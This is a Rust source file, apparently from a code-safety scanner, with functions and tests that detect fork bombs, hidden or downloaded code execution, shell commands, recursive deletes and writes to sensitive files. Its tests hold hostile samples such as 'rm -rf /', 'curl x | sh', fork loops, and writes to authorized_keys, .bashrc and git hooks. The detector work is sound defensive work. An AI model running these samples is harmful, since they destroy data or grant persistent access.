/// `fork while 1`, `fork while fork`, `loop { fork }`,
/// `while(true) child_process.fork(…)`, `for(;;) fork()`. Read on the text
/// with blanks taken out; a bounded loop (`for i in range(3)`) is not one.
fn fork_loop(code: &str) -> bool {
    const FOREVER: &[&str] = &[
        "whileTrue",
        "while1",
        "while(1)",
        "while(true)",
        "while(True)",
        "for(;;)",
        "loop{",
        "loopdo",
        "untilfalse",
        "until(false)",
        "until0",
        "forkwhile",
        "whilefork",
        "forkuntil",
        "1whilefork",
        "redo",
        // Iterators without end: `for _ in iter(int, 1)`,
        // `itertools.count()`, `cycle(…)`, `repeat(x)`; Ruby's `1.step`.
        "iter(int,1)",
        "iter(int,",
        "count()",
        "count(1)",
        "cycle(",
        ".step{",
        ".stepdo",
        "1.step",
    ];
    // A process of its own program started again: Node's and Python's
    // spawn of `process.execPath`, `__filename`, `sys.executable`.
    const ITSELF: &[&str] = &[
        "process.execPath",
        "process.argv[0]",
        "process.argv[1]",
        "__filename",
        "sys.executable",
        "sys.argv[0]",
        "__FILE__",
        "$0",
        "$PROGRAM_NAME",
    ];
    let squeezed: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let forks = call_sites(code, "fork").next().is_some()
        || (["spawn", "exec", "Popen", "system"]
            .iter()
            .any(|c| call_sites(code, c).next().is_some())
            && ITSELF.iter().any(|i| code.contains(i)));
    // `repeat(x)` without a count runs forever; `repeat(x, 3)` does not.
    let repeats = code.match_indices("repeat(").any(|(at, _)| {
        code.get(at + "repeat(".len()..)
            .and_then(|r| r.split_once(')'))
            .is_some_and(|(inside, _)| !inside.contains(','))
    });
    forks && (repeats || FOREVER.iter().any(|f| squeezed.contains(f)))
}

/// The shell command after a call name: a string literal as it is, or a
/// program and its arguments (a list, separate arguments, `{args: […]}`)
/// as a command line, each word quoted for the shell.
fn arguments(text: &str) -> Option<String> {
    let rest = text.trim_start();
    let rest = rest
        .strip_prefix('(')
        .or_else(|| rest.strip_prefix('{'))
        .unwrap_or(rest)
        .trim_start();
    // `Deno.run({cmd: […]})`.
    let rest = rest.strip_prefix('{').map_or(rest, |r| {
        let r = r.trim_start();
        r.strip_prefix("cmd:").unwrap_or(r).trim_start()
    });
    if let Some(list) = rest.strip_prefix('[') {
        let words = word_list(list);
        return (!words.is_empty()).then(|| command_line(&words));
    }
    // `spawnSync('rm', ['-rf', '/'])`, `system("rm", "-rf", "/")`,
    // `new Deno.Command("rm", {args: ["-rf", "/"]})`: the program, then
    // its arguments.
    let (program, after) = literal(rest)?;
    // A command line for a shell (`popen("cmd", "r")`, `run("cmd",
    // shell=True)`), or a program alone.
    let more = after.trim_start().strip_prefix(',').map(str::trim_start);
    let Some(more) = more.filter(|_| !program.contains(char::is_whitespace)) else {
        return Some(program);
    };
    let more = more.strip_prefix('{').map_or(more, |m| {
        let m = m.trim_start();
        m.strip_prefix("args:").unwrap_or(m).trim_start()
    });
    let mut words = vec![program];
    match more.strip_prefix('[') {
        Some(list) => words.extend(word_list(list)),
        None => words.extend(word_list(more)),
    }
    if words.len() == 1 {
        return words.pop();
    }
    Some(command_line(&words))
}

/// The words of a comma-separated list of literals (the home directory in
/// its usual spellings read as `~`), up to the first other item.
fn word_list(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut rest = text.trim_start();
    while words.len() < MAX_STRINGS {
        let (word, after) = match literal(rest) {
            Some(found) => found,
            None => match HOMES.iter().find(|h| starts_with_quotes(rest, h)) {
                Some(home) => ("~".to_owned(), rest.get(home.len()..).unwrap_or_default()),
                None => break,
            },
        };
        words.push(word);
        rest = after.trim_start();
        match rest.strip_prefix(',') {
            Some(after) => rest = after.trim_start(),
            None => break,
        }
    }
    words
}

/// Words run without a shell, as the shell command that runs the same:
/// each quoted where the shell would read it otherwise (`~` read from the
/// home directory's names stays as it is).
fn command_line(words: &[String]) -> String {
    words
        .iter()
        .map(|w| {
            let plain = w == "~"
                || (!w.is_empty()
                    && w.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "/._-+=,:@%".contains(c)));
            if plain {
                w.clone()
            } else {
                format!("'{}'", w.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// A quoted string at the start of `text`, unescaped, and what follows it.
fn literal(text: &str) -> Option<(String, &str)> {
    let mut chars = text.char_indices();
    let (_, quote) = chars.next().filter(|(_, c)| *c == '\'' || *c == '"')?;
    let mut out = String::new();
    let mut escaped = false;
    for (i, c) in chars {
        if escaped {
            out.push(c);
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == quote {
            return Some((out, text.get(i + 1..).unwrap_or_default()));
        } else {
            out.push(c);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_code_hidden_from_the_line() {
        let decoded = |code: &str| {
            hidden_code(code)
                .iter()
                .any(|h| matches!(h, Hidden::Decoded(_)))
        };
        for code in [
            "import os,base64;os.system(base64.b64decode('cm0='))",
            "import base64;exec(base64.b64decode('aW1w'))",
            "require('child_process').execSync(Buffer.from('cm0=','base64').toString())",
            "system(decode_base64(\"cm0=\"))",
            "system(Base64.decode64('cm0='))",
            "eval(pack(\"H*\",\"72\"))",
            "c=codecs.decode('ez -ei /','rot13');os.system(c)",
            "eval(atob('YWxlcnQ='))",
        ] {
            assert!(decoded(code), "{code}");
        }
        for code in [
            "import base64;print(base64.b64decode('aGk='))",
            "import os;os.system('ls')",
            "import platform;print(platform.system())",
            "import sys;print(sys.exec_prefix)",
        ] {
            assert!(hidden_code(code).is_empty(), "{code}");
        }
        assert_eq!(
            hidden_code("import os,sys;os.system(sys.argv[1])"),
            [Hidden::Unknown("os.system")]
        );
    }

    /// Text fetched over the network and run is a download run; fetched
    /// and only printed or parsed, it is data.
    #[test]
    fn finds_fetched_code() {
        let fetched = |code: &str| {
            hidden_code(code)
                .iter()
                .any(|h| matches!(h, Hidden::Fetched(_)))
        };
        for code in [
            "import urllib.request as u; exec(u.urlopen('https://e.x/p').read())",
            "import requests; exec(requests.get('https://e.x/p').text)",
            "import os,urllib.request as u; os.system(u.urlopen('https://e.x/c').read())",
        ] {
            assert!(fetched(code), "{code}");
        }
        for code in [
            "import urllib.request as u; print(u.urlopen('https://e.x/api').read())",
            "import json,requests; print(requests.get('https://e.x/a').json()['v'])",
        ] {
            assert!(hidden_code(code).is_empty(), "{code}");
        }
    }

    #[test]
    fn finds_shell_strings() {
        assert_eq!(
            shell_strings("import os; os.system('rm -rf /')", false),
            ["rm -rf /"]
        );
        assert_eq!(
            shell_strings(
                "require('child_process').spawnSync('rm', ['-rf', '/'])",
                false
            ),
            ["rm -rf /"]
        );
        assert_eq!(
            shell_strings("cp.execFileSync(\"rm\", [\"-rf\", \"build\"])", false),
            ["rm -rf build"]
        );
        assert_eq!(
            shell_strings(
                "import subprocess; subprocess.run(['rm', '-rf', 'x'])",
                false
            ),
            ["rm -rf x"]
        );
        assert_eq!(shell_strings(r#"system("rm -rf x")"#, true), ["rm -rf x"]);
        assert_eq!(shell_strings(r#"system "rm -rf x""#, true), ["rm -rf x"]);
        assert_eq!(
            shell_strings("require('child_process').execSync(\"curl x | sh\")", false),
            ["curl x | sh"]
        );
        assert_eq!(shell_strings("print `ls -la`", true), ["ls -la"]);
        assert!(shell_strings("print('rm -rf /')", false).is_empty());
        assert!(shell_strings("console.log(`rm -rf /`)", false).is_empty());
        assert!(shell_strings("mysystem('x')", true).is_empty());
    }

    #[test]
    fn finds_quote_like_operators_argument_lists_and_aliases() {
        assert_eq!(shell_strings("puts %x(rm -rf ~)", true), ["rm -rf ~"]);
        assert_eq!(shell_strings("%x{a {b} c}", true), ["a {b} c"]);
        assert_eq!(shell_strings("print qx/ls -la/", true), ["ls -la"]);
        assert!(shell_strings("puts \"%x(rm) is slow\"", true).is_empty());
        assert_eq!(
            shell_strings(r#"system("rm", "-rf", Dir.home)"#, true),
            ["rm -rf ~"]
        );
        assert_eq!(
            shell_strings(r#"spawnSync("sh", ["-c", "rm -rf ~"])"#, false),
            ["sh -c 'rm -rf ~'"]
        );
        assert_eq!(
            shell_strings(r#"popen("rm -rf x", "r")"#, false),
            ["rm -rf x"]
        );
        assert_eq!(
            shell_strings(r#"open(my $f, "-|", "rm -rf x")"#, true),
            ["rm -rf x"]
        );
        assert_eq!(
            shell_strings(r#"open(F, "rm -rf x |")"#, true),
            ["rm -rf x "]
        );
        assert!(shell_strings(r#"open(F, "<", "x.txt")"#, true).is_empty());
        assert_eq!(
            shell_strings(
                r#"const {execSync: run} = require("child_process"); run("rm -rf x")"#,
                false
            ),
            ["rm -rf x"]
        );
        assert_eq!(
            shell_strings(
                r#"from subprocess import run; run("rm -rf x", shell=True)"#,
                false
            ),
            ["rm -rf x"]
        );
        assert_eq!(
            shell_strings(r#"os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "x")"#, false),
            ["rm rm -rf x"]
        );
        assert_eq!(shell_strings("await Bun.$`rm -rf x`", false), ["rm -rf x"]);
        assert_eq!(
            shell_strings("getattr(__import__('os'), 'system')('rm -rf x')", false),
            ["rm -rf x"]
        );
        assert_eq!(
            shell_strings("require('child_process')['execSync']('rm -rf x')", false),
            ["rm -rf x"]
        );
        assert_eq!(
            tcl_commands("puts [exec ls -la]; exec rm -rf x"),
            ["ls -la", "rm -rf x"]
        );
    }

    fn tree(call: &'static str, path: &str) -> Effect {
        Effect::DeleteTree {
            call,
            path: path.into(),
        }
    }

    fn write(call: &'static str, path: &str, write: Write) -> Effect {
        Effect::Write {
            call,
            path: path.into(),
            write,
        }
    }

    #[test]
    fn reads_tree_deletes() {
        assert_eq!(
            effects("import shutil; shutil.rmtree('/')"),
            [tree("rmtree", "/")]
        );
        assert_eq!(
            effects("import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))"),
            [tree("rmtree", "~")]
        );
        assert_eq!(
            effects("require 'fileutils'; FileUtils.rm_rf(Dir.home)"),
            [tree("rm_rf", "~")]
        );
        assert_eq!(
            effects("require('fs').rmSync('/', {recursive: true})"),
            [tree("rmSync", "/")]
        );
        assert!(effects("require('fs').rmSync('/tmp/x.txt')").is_empty());
        assert_eq!(
            effects("use File::Path; rmtree '/etc'"),
            [tree("rmtree", "/etc")]
        );
        assert!(effects("shutil.rmtree(build_dir)").is_empty());
    }

    #[test]
    fn reads_writes() {
        assert_eq!(
            effects("open('/home/u/.bashrc', 'a').write('x')"),
            [write("open", "/home/u/.bashrc", Write::Append)]
        );
        assert_eq!(
            effects("open(os.path.join(os.path.expanduser('~'), '.bashrc'), mode='w')"),
            [write("open", "~/.bashrc", Write::Replace)]
        );
        assert!(effects("print(open('/home/u/.bashrc').read())").is_empty());
        assert_eq!(
            effects("open(my $f, '>>', \"$ENV{HOME}/.bashrc\"); print $f 1"),
            [write("open", "~/.bashrc", Write::Append)]
        );
        assert_eq!(
            effects("open(F, \">>$ENV{HOME}/.zshrc\")"),
            [write("open", "~/.zshrc", Write::Append)]
        );
        assert_eq!(
            effects("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')"),
            [write("appendFileSync", "~/.bashrc", Write::Append)]
        );
        assert!(effects("open(F, '<', 'x.txt')").is_empty());
        assert_eq!(
            effects("os.unlink(os.path.expanduser('~/.bash_history'))"),
            [write("unlink", "~/.bash_history", Write::Remove)]
        );
    }

    #[test]
    fn reads_copies_moves_and_links() {
        let r = Write::Replace;
        assert_eq!(
            effects("import shutil; shutil.copy('a.txt', '/home/u/.ssh/authorized_keys')"),
            [write("shutil.copy", "/home/u/.ssh/authorized_keys", r)]
        );
        assert_eq!(
            effects("import shutil; shutil.move('a', 'b')"),
            [
                write("shutil.move", "a", Write::Remove),
                write("shutil.move", "b", r)
            ]
        );
        assert_eq!(
            effects("import os; os.replace('new', os.path.expanduser('~/.bashrc'))"),
            [
                write("os.replace", "new", Write::Remove),
                write("os.replace", "~/.bashrc", r)
            ]
        );
        assert_eq!(
            effects("require('fs').copyFileSync('x', '.git/hooks/pre-commit')"),
            [write("copyFileSync", ".git/hooks/pre-commit", r)]
        );
        assert_eq!(
            effects("require('fs').renameSync(a, 'b.txt')"),
            [
                Effect::WriteSomewhere { call: "renameSync" },
                write("renameSync", "b.txt", r)
            ]
        );
        assert_eq!(
            effects("use File::Copy; copy('x', \"$ENV{HOME}/.profile\")"),
            [write("copy", "~/.profile", r)]
        );
        let link = |call, path: &str, to: Option<&str>, symbolic| Effect::Link {
            call,
            path: path.into(),
            to: to.map(str::to_owned),
            symbolic,
        };
        assert_eq!(
            effects("os.symlink('/etc/passwd', 'src/a.rs')"),
            [link("symlink", "src/a.rs", Some("/etc/passwd"), true)]
        );
        assert_eq!(
            effects("os.link('README.md', 'src/a.rs')"),
            [link("link", "src/a.rs", Some("README.md"), false)]
        );
        assert_eq!(
            effects("require('fs').symlinkSync(t, 'src/a.rs')"),
            [link("symlinkSync", "src/a.rs", None, true)]
        );
        assert_eq!(
            effects("FileUtils.ln_s('../x', 'src/a.rs')"),
            [link("FileUtils.ln_s", "src/a.rs", Some("../x"), true)]
        );
        assert_eq!(
            effects("symlink('../x', $f)"),
            [Effect::WriteSomewhere { call: "symlink" }]
        );
        // Mentions and other calls of the same name are no writes.
        assert!(effects("d = {}; e = d.copy()").is_empty());
        assert!(effects("x = 'a'.replace('a', 'b')").is_empty());
    }

    #[test]
    fn writes_to_paths_not_written_out_are_unknown() {
        let somewhere = |call| Effect::WriteSomewhere { call };
        assert_eq!(
            effects("import sys; open(sys.argv[1], 'w').write('x')"),
            [somewhere("open")]
        );
        assert_eq!(effects("open(f, mode='a')"), [somewhere("open")]);
        assert!(effects("print(open(f).read())").is_empty());
        assert_eq!(
            effects("require('fs').writeFileSync(name, 'x')"),
            [somewhere("writeFileSync")]
        );
        assert_eq!(
            effects("open(my $fh, '>', $out) or die"),
            [somewhere("open")]
        );
        assert_eq!(effects("open(F, \">$out\")"), [somewhere("open")]);
        assert_eq!(effects("p.write_text('x')"), [somewhere("write_text")]);
    }

    #[test]
    fn deep_or_long_paths_are_bounded() {
        let deep = format!("shutil.rmtree({}'/'", "Path(".repeat(100_000));
        assert!(effects(&deep).is_empty());
        let long = format!("shutil.rmtree('/'{})", "+'a'".repeat(100_000));
        assert_eq!(effects(&long).len(), 1);
    }

    #[test]
    fn reads_pathlib_methods_and_named_paths() {
        let writes = |code: &str| -> Vec<(String, Write)> {
            effects(code)
                .into_iter()
                .filter_map(|e| match e {
                    Effect::Write { path, write, .. } => Some((path, write)),
                    Effect::DeleteTree { .. }
                    | Effect::Link { .. }
                    | Effect::WriteSomewhere { .. }
                    | Effect::ForkLoop => None,
                })
                .collect()
        };
        assert_eq!(
            writes("pathlib.Path.home().joinpath('.bashrc').write_text('x')"),
            [("~/.bashrc".to_owned(), Write::Replace)]
        );
        assert_eq!(
            writes("Path('~/.ssh/id_rsa').expanduser().unlink()"),
            [("~/.ssh/id_rsa".to_owned(), Write::Remove)]
        );
        assert_eq!(
            writes("(Path.home() / '.zshrc').open('a').write('x')"),
            [("~/.zshrc".to_owned(), Write::Append)]
        );
        assert!(writes("print(Path('README.md').read_text())").is_empty());
        assert_eq!(
            effects("import shutil; p='/'; shutil.rmtree(p)"),
            [tree("rmtree", "/")]
        );
        assert_eq!(
            effects("my $d = \"/etc\"; rmtree($d)"),
            [tree("rmtree", "/etc")]
        );
        // Comparisons are no assignments; an unknown name is no path.
        assert!(effects("x = 1; y = x == '/'; shutil.rmtree(z)").is_empty());
    }

    #[test]
    fn reads_fork_loops() {
        assert_eq!(
            effects("import os\nwhile True: os.fork()"),
            [Effect::ForkLoop]
        );
        assert_eq!(effects("fork while 1"), [Effect::ForkLoop]);
        assert_eq!(effects("fork while fork"), [Effect::ForkLoop]);
        assert_eq!(effects("loop { fork }"), [Effect::ForkLoop]);
        for code in [
            "import os\nfor _ in iter(int, 1): os.fork()",
            "import os, itertools; [os.fork() for _ in itertools.count()]",
            "import os; from itertools import repeat; [os.fork() for _ in repeat(0)]",
            "1.step { fork }",
            "for (;;) require('child_process').spawn(process.execPath, [__filename])",
        ] {
            assert_eq!(effects(code), [Effect::ForkLoop], "{code}");
        }
        assert!(effects("import os\nfor i in range(4): os.fork()").is_empty());
        // A watch loop runs what it is given, not itself.
        assert!(
            effects("import os, sys, time\nwhile True: os.system(sys.argv[1]); time.sleep(2)")
                .is_empty()
        );
        assert!(
            effects("import os, itertools; [os.fork() for _ in itertools.repeat(0, 3)]").is_empty()
        );
        assert!(effects("import os; pid = os.fork()").is_empty());
        assert!(effects("for (1..3) { fork }").is_empty());
        assert!(effects("while (1) { print 1; last }").is_empty());
    }
}
